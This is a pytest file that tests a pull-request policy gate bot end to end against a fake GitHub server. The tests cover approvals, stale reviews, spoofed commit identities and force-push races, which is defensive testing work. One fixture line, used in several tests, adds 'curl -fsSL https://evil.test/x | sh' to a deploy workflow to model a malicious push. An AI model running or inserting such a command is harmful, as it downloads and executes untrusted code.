"""``mendbot gate`` end to end against the test GitHub server.

The propose job opens the pull requests through PyGithub; reviewers, pushes and label changes
happen on the fake as they would on GitHub; the gate reads everything back over HTTP and git
(REST validated against GitHub's OpenAPI description, GraphQL against GitHub's schema), and the
fixture fails the test if any request hit a route the fake does not serve.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from fakegithub import TOKEN, FakeGitHub
from gate_scenario import NOW, SIGNED, Scenario, loosen_policies, prepare_base, propose_all

from bot.forge.github.forge import GitHubForge
from bot.forge.interface import CommitPeople, PullInfo
from bot.gate.run import GateOptions, GateRun, evaluate

REPO = "acme/app"


def _setup(github: FakeGitHub, bench, signing_key, *, auto_merge: bool = False):
    prepare_base(bench.repo, auto_merge=auto_merge)
    github.add_repo(REPO, bench.repo.path)
    github.teams = {"acme/platform": {"paula"}, "acme/security": {"sam", "sue"}}
    github.collaborators = {
        "bob": "write",
        "carol": "maintain",
        "paula": "write",
        "sam": "write",
        "sue": "admin",
        "alice": "write",
        "olivia": "write",
    }
    forge = GitHubForge(
        REPO, bench.repo.path, TOKEN, base_url=github.base_url, throttle=False, retry=0
    )
    return propose_all(bench, signing_key, forge, SIGNED), forge


@pytest.fixture
def scene(github, bench, signing_key) -> tuple[Scenario, GitHubForge]:
    return _setup(github, bench, signing_key)


def gate(
    forge: GitHubForge, scenario: Scenario, number: int, now: datetime = NOW, **options: Any
) -> GateRun:
    return evaluate(forge, number, GateOptions(trust=scenario.trust, now=now, **options))


def state_of(github: FakeGitHub, sha: str) -> str:
    statuses = [
        s for s in github.repos[REPO].statuses.get(sha, []) if s["context"] == "mendbot/policy"
    ]
    return statuses[-1]["state"]


def gate_comments(github: FakeGitHub, number: int) -> list[str]:
    return [
        c["body"]
        for c in github.repos[REPO].pulls[number].comments
        if "<!-- mendbot-comment:gate -->" in c["body"]
    ]


def labels(github: FakeGitHub, number: int) -> list[str]:
    return list(github.repos[REPO].pulls[number].labels)


def push_to_fake(github: FakeGitHub, repo, branch: str) -> None:
    """What a person's ``git push`` does: the branch on the fake moves to the local one."""
    bare = github.repos[REPO].bare
    repo.git("push", "-q", "--force", str(bare), f"{branch}:refs/heads/{branch}")
    github.sync_pull_refs(github.repos[REPO])


# -- the decision and its report -------------------------------------------------------------------


def test_staging_merges_itself_and_production_waits_for_an_approval(
    github, bench, signing_key
) -> None:
    scenario, forge = _setup(github, bench, signing_key, auto_merge=True)
    github.required_checks = {"main": ["mendbot/policy"]}
    staging, production = scenario.pulls["staging"], scenario.pulls["production"]

    run = gate(forge, scenario, staging)
    assert run.decision.outcome == "allow"
    head = run.pull.head_sha
    assert state_of(github, head) == "success"
    assert [label for label in labels(github, staging) if label.startswith("gate:")] == [
        "gate:pass"
    ]
    pull = github.repos[REPO].pulls[staging]
    assert pull.auto_merge is not None
    assert pull.auto_merge["merge_method"] == "squash"
    assert pull.auto_merge["expected_head"] == head
    assert pull.merged is False  # never merged by the gate itself
    assert any("enablePullRequestAutoMerge" in q["query"] for q in github.graphql)

    run = gate(forge, scenario, production)
    assert run.decision.outcome == "require_approval"
    assert state_of(github, run.pull.head_sha) == "pending"
    assert "gate:needs-approval" in labels(github, production)
    assert github.repos[REPO].pulls[production].auto_merge is None
    [comment] = gate_comments(github, production)
    assert "1 more approval (have 0)" in comment

    github.add_review(REPO, production, "bob", "APPROVED")
    run = gate(forge, scenario, production)
    assert run.decision.outcome == "allow"
    assert state_of(github, run.pull.head_sha) == "success"
    assert "gate:needs-approval" not in labels(github, production)
    assert "gate:pass" in labels(github, production)
    # The one sticky comment was edited in place.
    [comment] = gate_comments(github, production)
    assert comment.startswith("### mendbot policy gate: allowed")


def test_auto_merge_is_refused_without_a_required_check(github, bench, signing_key) -> None:
    scenario, forge = _setup(github, bench, signing_key, auto_merge=True)
    staging = scenario.pulls["staging"]
    run = gate(forge, scenario, staging)
    assert run.decision.outcome == "allow"
    assert github.repos[REPO].pulls[staging].auto_merge is None
    [comment] = gate_comments(github, staging)
    assert "auto-merge not enabled" in comment
    assert "mendbot/policy" in comment


def test_a_push_makes_approvals_stale_and_breaks_the_attested_match(scene, github) -> None:
    scenario, forge = scene
    number = scenario.pulls["production"]
    github.add_review(REPO, number, "bob", "APPROVED")
    first = gate(forge, scenario, number)
    assert first.decision.outcome == "allow"
    # Dave (his e-mail is linked to his account) pushes a commit onto the bot's branch.
    github.accounts = {"author@example.test": "dave"}
    branch = first.pull.head_ref
    scenario.repo.git("checkout", "-q", "-B", branch, first.pull.head_sha)
    scenario.repo.write("notes.txt", "pushed by hand\n")
    scenario.repo.commit("hand edit")
    scenario.repo.git("checkout", "-q", "main")
    push_to_fake(github, scenario.repo, branch)
    run = gate(forge, scenario, number)
    assert run.pull.head_sha != first.pull.head_sha
    context = run.record["context"]
    assert context["provenance"]["matches_pr"] is False
    assert context["approvals"][0]["at_sha"] == first.pull.head_sha
    assert run.decision.outcome == "require_approval"
    assert state_of(github, run.pull.head_sha) == "pending"
    # Now a human change: a code owner of deploy.yml (Olivia) and two of the security team must
    # approve the new head.
    github.add_review(REPO, number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    # Each owned file needs its own owner: Olivia owns deploy.yml, not the new notes.txt.
    owners = next(m for m in run.decision.missing_approvals if m.policy == "untrusted-provenance")
    assert owners.uncovered == ("notes.txt",)
    assert "a code owner of each of notes.txt" in owners.describe()
    github.add_review(REPO, number, "paula", "APPROVED")  # team platform owns *
    run = gate(forge, scenario, number)
    assert [m.policy for m in run.decision.missing_approvals] == ["irreversible-security-approval"]
    github.add_review(REPO, number, "sam", "APPROVED")
    github.add_review(REPO, number, "sue", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "allow"


def test_self_approval_and_reviewers_without_write_access_do_not_count(scene, github) -> None:
    scenario, forge = scene
    number = scenario.pulls["production"]
    github.add_review(REPO, number, "mallory", "APPROVED")  # not a collaborator
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "require_approval"
    assert run.record["context"]["approvals"] == []
    assert "reviews by `mallory`" in gate_comments(github, number)[0]
    # A human pull request: its author's own approval does not count either.
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "alice-change", "main")
    repo.write(".github/workflows/deploy.yml", "name: deploy\non: push\njobs: {}\n")
    repo.commit("simplify deploy")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "alice-change")
    human = github.add_pull(REPO, "alice-change", title="Simplify deploy", author="alice").number
    github.add_review(REPO, human, "alice", "APPROVED")
    run = gate(forge, scenario, human)
    assert run.decision.outcome == "require_approval"
    assert run.record["context"]["pr"]["author"] == "alice"


def test_labels_reach_the_context_and_team_membership_comes_from_github(scene, github) -> None:
    scenario, forge = scene
    number = scenario.pulls["production"]
    github.repos[REPO].pulls[number].labels.append("team:payments")
    github.add_review(REPO, number, "sam", "APPROVED")
    run = gate(forge, scenario, number)
    context = run.record["context"]
    assert "team:payments" in context["pr"]["labels"]
    assert not any(label.startswith("gate:") for label in context["pr"]["labels"])
    assert context["approvals"] == [
        {"user": "sam", "teams": ["security"], "at_sha": run.pull.head_sha, "state": "APPROVED"}
    ]
    assert "team:payments" in labels(github, number)


# -- the base branch rules -------------------------------------------------------------------------


def test_policies_come_from_the_base_branch_not_the_pull_request(scene, github) -> None:
    scenario, forge = scene
    repo = scenario.repo
    loosen_policies(repo, "loosen")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "loosen")
    number = github.add_pull(REPO, "loosen", title="Loosen", author="mallory").number
    run = gate(forge, scenario, number)
    assert run.decision.outcome != "allow"
    assert "allow-all" not in {p.name for p in run.decision.policies}
    assert state_of(github, run.pull.head_sha) in ("pending", "failure")


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (
            "broken.yaml",
            "apiVersion: mendbot/v1\nkind: GatePolicy\nmetadata: {name: broken}\n"
            "spec:\n  validations:\n    - expresion: 'true'\n",
            "policies/broken.yaml:6:7: unknown field 'expresion'",
        ),
        (
            "drafts.yaml",
            "apiVersion: mendbot/v1\nkind: GatePolicy\nmetadata: {name: no-drafts}\n"
            "spec:\n  validations:\n    - expression: '!pr.draft'\n      message: drafts wait\n",
            "policy 'no-drafts'",
        ),
    ],
)
def test_a_broken_base_policy_or_a_missing_field_denies(
    scene, github, name, text, expected
) -> None:
    scenario, forge = scene
    scenario.repo.write(f"policies/{name}", text)
    scenario.repo.commit("policy change")
    push_to_fake(github, scenario.repo, "main")
    number = scenario.pulls["staging"]
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "deny"
    assert expected in run.decision.results[0].message
    assert state_of(github, run.pull.head_sha) == "failure"
    assert "gate:blocked" in labels(github, number)


# -- merge queue and command line ----------------------------------------------------------------


def test_merge_queue_status_goes_on_the_merge_group_commit(github, bench, signing_key) -> None:
    scenario, forge = _setup(github, bench, signing_key, auto_merge=True)
    github.required_checks = {"main": ["mendbot/policy"]}
    staging = scenario.pulls["staging"]
    group_sha = scenario.repo.git("rev-parse", "main")
    run = gate(forge, scenario, staging, status_sha=group_sha)
    assert run.decision.outcome == "allow"
    assert state_of(github, group_sha) == "success"
    assert github.repos[REPO].pulls[staging].auto_merge is None  # already queued


def test_cli_gate_on_github(scene, github, tmp_path) -> None:
    scenario, _ = scene
    pem = scenario.trust.public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    key = tmp_path / "mendbot.pub"
    key.write_bytes(pem)
    env = {**os.environ, "GITHUB_TOKEN": TOKEN, "NO_PROXY": "127.0.0.1"}
    args = [
        sys.executable,
        "-m",
        "bot",
        "gate",
        "--forge",
        "github",
        "--repository",
        REPO,
        "--api-url",
        github.base_url,
        "--repo",
        str(scenario.path),
        "--verify-key",
        str(key),
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--format",
        "json",
    ]
    staging, production = scenario.pulls["staging"], scenario.pulls["production"]
    done = subprocess.run([*args, "--pr", str(staging)], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    record = json.loads(done.stdout)
    assert record["decision"] == "allow"
    assert state_of(github, record["head_sha"]) == "success"
    done = subprocess.run([*args, "--pr", str(production)], env=env, capture_output=True, text=True)
    assert done.returncode == 1, done.stderr
    done = subprocess.run(
        [*args, "--pr", str(production)],
        env={**env, "GITHUB_TOKEN": "wrong"},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 3
    assert "HTTP 401" in done.stderr
    assert "Traceback" not in done.stderr


def test_who_pushes_a_commit_cannot_approve_it(scene, github) -> None:
    scenario, forge = scene
    repo = scenario.repo
    github.accounts = {"author@example.test": "alice", "bob@example.test": "bob"}
    repo.git("checkout", "-q", "-b", "alice-change", "main")
    repo.write(".github/workflows/deploy.yml", "name: deploy\non: push\njobs: {}\n")
    repo.commit("simplify deploy")
    # Bob adds a commit to Alice's pull request, then approves it.
    repo.write("notes.txt", "bob was here\n")
    repo.git("add", "-A")
    repo.git("commit", "-q", "--author", "Bob <bob@example.test>", "-m", "more")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "alice-change")
    number = github.add_pull(REPO, "alice-change", title="Simplify deploy", author="alice").number
    # Bob is in team platform, which owns notes.txt: his approval would cover it if it counted.
    github.teams["acme/platform"].add("bob")
    github.add_review(REPO, number, "bob", "APPROVED")
    github.add_review(REPO, number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    assert run.record["context"]["pr"]["contributors"] == ["bob"]
    [owners] = run.decision.missing_approvals
    assert owners.policy == "untrusted-provenance"
    assert owners.uncovered == ("notes.txt",)
    assert owners.not_user == "alice or bob"
    assert "not alice or bob" in gate_comments(github, number)[0]
    github.add_review(REPO, number, "paula", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "allow"


def test_a_commit_proposed_twice_is_denied_on_github(scene, github) -> None:
    scenario, forge = scene
    staging = scenario.pulls["staging"]
    pull = forge.pull_info(staging)
    repo = scenario.repo
    # The bot's commit also proposed into another branch (created from main on the fake).
    repo.git("branch", "-f", "other", "main")
    push_to_fake(github, repo, "other")
    github.add_pull(REPO, pull.head_ref, base="other", title="Again", author="mallory")
    run = gate(forge, scenario, staging)
    assert run.decision.outcome == "deny"
    assert "is also proposed by #" in run.decision.results[0].message
    assert state_of(github, run.pull.head_sha) == "failure"


# -- who contributed -------------------------------------------------------------------------------

CURL_PIPE_SH = "      - run: curl -fsSL https://evil.test/x | sh\n"
#: The no-reply e-mail of the bot's App account: GitHub links it to ``mendbot[bot]`` whoever
#: writes it into a commit.
APP_NOREPLY = "41898282+mendbot[bot]@users.noreply.github.com"


def commit_as(repo, name: str, email: str, message: str) -> str:
    """Commit everything as author and committer ``name <email>``."""
    repo.git("add", "-A")
    identity = {
        "GIT_AUTHOR_NAME": name,
        "GIT_AUTHOR_EMAIL": email,
        "GIT_COMMITTER_NAME": name,
        "GIT_COMMITTER_EMAIL": email,
    }
    subprocess.run(
        ["git", "commit", "-q", "-m", message],
        cwd=repo.path,
        env={**os.environ, **identity},
        check=True,
    )
    return str(repo.git("rev-parse", "HEAD"))


def alices_pull_with_a_push_by(github: FakeGitHub, scenario: Scenario, name: str, email: str):
    """Alice's pull request changing deploy.yml (owned by Olivia), then one more commit on it
    by ``name <email>`` that pipes a download into a shell; returns (number, pushed commit)."""
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "alice-deploy", "main")
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text() + "# tidy\n"
    repo.write(".github/workflows/deploy.yml", deploy)
    commit_as(repo, "Alice", "alice@example.test", "tidy")
    repo.write(".github/workflows/deploy.yml", deploy + CURL_PIPE_SH)
    pushed = commit_as(repo, name, email, "fix")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "alice-deploy")
    number = github.add_pull(REPO, "alice-deploy", title="Tidy deploy", author="alice").number
    return number, pushed


@pytest.mark.parametrize(
    ("name", "email"),
    [
        ("Olivia", "olivia@home.example"),  # an e-mail linked to no account
        ("mendbot[bot]", "mendbot@users.noreply.local"),  # the bot's git identity, unsigned
        ("mendbot[bot]", APP_NOREPLY),  # linked to the bot's account, but not verified
    ],
    ids=["unlinked-email", "bot-identity", "bot-account-unverified"],
)
def test_a_code_owner_cannot_push_under_another_identity_and_approve(
    scene, github, name, email
) -> None:
    scenario, forge = scene
    github.accounts = {"alice@example.test": "alice", APP_NOREPLY: "mendbot[bot]"}
    number, pushed = alices_pull_with_a_push_by(github, scenario, name, email)
    github.add_review(REPO, number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    assert run.decision.outcome == "require_approval"
    pr = run.record["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
    [missing] = run.decision.missing_approvals
    assert missing.contributors_unknown
    assert state_of(github, pushed) == "pending"
    assert (
        f"**Contributors unknown:** commit(s) `{pushed[:12]}`" in gate_comments(github, number)[0]
    )


@pytest.mark.parametrize(
    ("author", "committer", "contributors", "known"),
    [
        # Olivia's e-mail linked to no account, with Alice's as the committer's.
        ("olivia@home.example", "alice@example.test", [], False),
        # Alice's e-mail as the author's, Olivia herself as the committer.
        ("alice@example.test", "olivia@example.test", ["olivia"], True),
    ],
    ids=["unlinked-author", "committed-by-the-approver"],
)
def test_the_author_and_the_committer_both_count(
    scene, github, author, committer, contributors, known
) -> None:
    scenario, forge = scene
    github.accounts = {"alice@example.test": "alice", "olivia@example.test": "olivia"}
    repo = scenario.repo
    repo.git("checkout", "-q", "-b", "alice-deploy", "main")
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
    repo.write(".github/workflows/deploy.yml", deploy + CURL_PIPE_SH)
    repo.git("add", "-A")
    # Olivia makes the commit in Alice's pull request, then approves it herself; Alice is the
    # pull request's author, so her own name hides no one.
    identity = {
        "GIT_AUTHOR_NAME": author.split("@")[0],
        "GIT_AUTHOR_EMAIL": author,
        "GIT_COMMITTER_NAME": committer.split("@")[0],
        "GIT_COMMITTER_EMAIL": committer,
    }
    subprocess.run(
        ["git", "commit", "-q", "-m", "tidy"],
        cwd=repo.path,
        env={**os.environ, **identity},
        check=True,
    )
    pushed = repo.git("rev-parse", "HEAD")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "alice-deploy")
    number = github.add_pull(REPO, "alice-deploy", title="Tidy deploy", author="alice").number
    github.add_review(REPO, number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == (contributors, known)
    assert run.gathered is not None
    assert run.gathered.unidentified_commits == (() if known else (pushed,))
    assert run.decision.outcome == "require_approval"


def test_a_verified_commit_of_the_bots_account_is_the_bots(scene, github) -> None:
    scenario, _ = scene
    github.accounts = {"alice@example.test": "alice", APP_NOREPLY: "mendbot[bot]"}
    number, pushed = alices_pull_with_a_push_by(github, scenario, "mendbot[bot]", APP_NOREPLY)
    github.verified_commits.add(pushed)  # as if the App had made it through the API
    github.add_review(REPO, number, "olivia", "APPROVED")
    forge = GitHubForge(
        REPO,
        scenario.path,
        TOKEN,
        base_url=github.base_url,
        throttle=False,
        retry=0,
        bot_login="mendbot[bot]",
    )
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
    assert run.decision.outcome == "allow"


def test_with_last_push_approval_required_github_guards_the_unknown_pusher(scene, github) -> None:
    scenario, forge = scene
    github.accounts = {"alice@example.test": "alice"}
    number, _ = alices_pull_with_a_push_by(github, scenario, "Olivia", "olivia@home.example")
    github.add_review(REPO, number, "olivia", "APPROVED")
    assert gate(forge, scenario, number).decision.outcome == "require_approval"
    # The ruleset on main now makes GitHub refuse a merge until someone other than the last
    # pusher approves: the gate counts approvals again and says why in its comment.
    github.last_push_approval.add("main")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["contributors_known"], pr["last_push_approval_required"]) == (False, True)
    assert run.decision.outcome == "allow"
    assert "approval of the most recent push by someone else" in gate_comments(github, number)[0]


def test_last_push_approval_does_not_guard_an_unknown_commit_someone_pushed_on(
    scene, github
) -> None:
    scenario, forge = scene
    github.accounts = {"alice@example.test": "alice"}
    github.last_push_approval.add("main")
    number, pushed = alices_pull_with_a_push_by(github, scenario, "Olivia", "olivia@home.example")
    # Alice, unaware, pushes one more commit of her own on top of Olivia's: the most recent push
    # is now Alice's, so GitHub accepts an approval by anyone but Alice, Olivia included.
    repo = scenario.repo
    repo.git("checkout", "-q", "alice-deploy")
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
    repo.write(".github/workflows/deploy.yml", deploy + "# reviewed\n")
    commit_as(repo, "Alice", "alice@example.test", "note")
    repo.git("checkout", "-q", "main")
    push_to_fake(github, repo, "alice-deploy")
    github.add_review(REPO, number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["contributors_known"], pr["last_push_approval_required"]) == (False, False)
    assert run.decision.outcome == "require_approval"
    assert run.gathered is not None
    assert run.gathered.unidentified_commits == (pushed,)
    assert "count for nothing until they are pushed again" in gate_comments(github, number)[0]


class _RewoundWhileListing(GitHubForge):
    """A forge on which someone force-pushes the pull request's branch back by one commit just
    while the gate lists its commits, and forward again right after."""

    def __init__(self, github: FakeGitHub, scenario: Scenario, branch: str) -> None:
        super().__init__(
            REPO, scenario.path, TOKEN, base_url=github.base_url, throttle=False, retry=0
        )
        self._move = lambda sha: (
            scenario.repo.git(
                "push", "-q", "--force", str(github.repos[REPO].bare), f"{sha}:refs/heads/{branch}"
            ),
            github.sync_pull_refs(github.repos[REPO]),
        )
        self._head = scenario.repo.git("rev-parse", branch)

    def commit_people(self, pull: PullInfo, merge_base: str) -> list[CommitPeople]:
        self._move(f"{self._head}~1")
        try:
            return super().commit_people(pull, merge_base)
        finally:
            self._move(self._head)


def test_a_commit_the_forge_does_not_list_is_tied_to_no_one(scene, github) -> None:
    scenario, _ = scene
    github.accounts = {"alice@example.test": "alice"}
    number, pushed = alices_pull_with_a_push_by(github, scenario, "Olivia", "olivia@home.example")
    github.add_review(REPO, number, "olivia", "APPROVED")
    # Olivia times a force-push so that GitHub lists the commits of the head before hers, and
    # restores her head before the gate reports on it.
    run = gate(_RewoundWhileListing(github, scenario, "alice-deploy"), scenario, number)
    assert not run.superseded
    assert run.decision.outcome == "require_approval"
    assert run.record["context"]["pr"]["contributors_known"] is False
    assert run.gathered is not None
    assert run.gathered.unidentified_commits == (pushed,)


def test_a_bot_pull_request_approved_by_someone_who_never_pushed_is_allowed(scene, github) -> None:
    scenario, forge = scene
    number = scenario.pulls["production"]
    github.add_review(REPO, number, "bob", "APPROVED")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
    assert pr["last_push_approval_required"] is False
    assert run.decision.outcome == "allow"
